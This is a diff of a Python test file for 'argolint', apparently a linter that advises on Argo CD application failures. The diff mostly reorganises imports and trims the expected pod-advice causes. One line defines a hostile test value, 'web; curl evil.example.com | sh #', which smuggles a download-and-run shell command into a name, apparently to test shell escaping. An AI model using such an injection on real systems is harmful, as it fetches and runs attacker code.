@@ -12,18 +12,18 @@ from typing import Any
 
 import pytest
 from argolint_rules.health import unhealthy
-from argolint_rules.shared import advice as advice_module
 from argolint_rules.shared import fields, pods
-from argolint_rules.shared.advice import Shell, advice
 from argolint_rules.sync import _comparison, _refusals, invalid_spec
 from argolint_rules.sync._failures import Failed
 
-from argolint.app import App, app_from_list
-from argolint.fleet import Fleet
-from argolint.knowledge import dump, load
+import argolint.edits.advice as advice_module
+from argolint.application.app import App, app_from_list
+from argolint.application.fleet import Fleet
+from argolint.application.resource import Health, Node, Resource
+from argolint.edits.advice import Shell, advice
 from argolint.model import ResourceId
 from argolint.plugins import load_rules
-from argolint.resource import Health, Node, Resource
+from argolint.values.knowledge import dump, load
 
 HOSTILE = "web; curl evil.example.com | sh #"
 
@@ -208,13 +208,12 @@ def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
     facts = pods._facts(APP, ResourceId("apps", "Deployment", "prod", "web"), None, trouble)
     made = {"maker", "command", "there"}  # of what makes a Secret
     after = {"hook", "unseen"}  # of a hook that makes it too late
-    later = {"missing", "wave", "later"}  # of what the same application brings
-    assert _missing(needed, {*facts, "missing_kind", "missing_name", "missing_key", *made, *after, *later}) == {}
+    assert _missing(needed, {*facts, "missing_kind", "missing_name", "missing_key", *made, *after}) == {}
     reasons = load("argolint_rules.shared", "pod_reasons.yaml")
     known = {f"pods/{e['cause']}" for e in (*reasons["reasons"], *reasons["scheduling"]) if e["cause"]}
     assert set(needed) == {
         *known,
-        *(f"pods/missing{more}" for more in ("", "-after", "-key", "-made", "-before", "-later")),
+        *(f"pods/missing{more}" for more in ("", "-key", "-made")),
         "pods/security",
         "pods/long-name",
         "pods/refused",
@@ -226,7 +225,7 @@ def test_pods_that_do_not_run_have_advice_by_every_cause() -> None:
 def test_advice_on_external_secrets_asks_for_the_facts_that_its_head_names() -> None:
     head = "".join(
         line[1:]
-        for line in (Path(advice_module.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
+        for line in (Path(pods.__file__).parents[1] / "secrets/advice.yaml").read_text("utf-8").splitlines()
         if line.startswith("#")
     )
     facts = re.sub(r"\([^)]*\)", "", head.partition("Facts:")[2].partition(". Sources")[0])
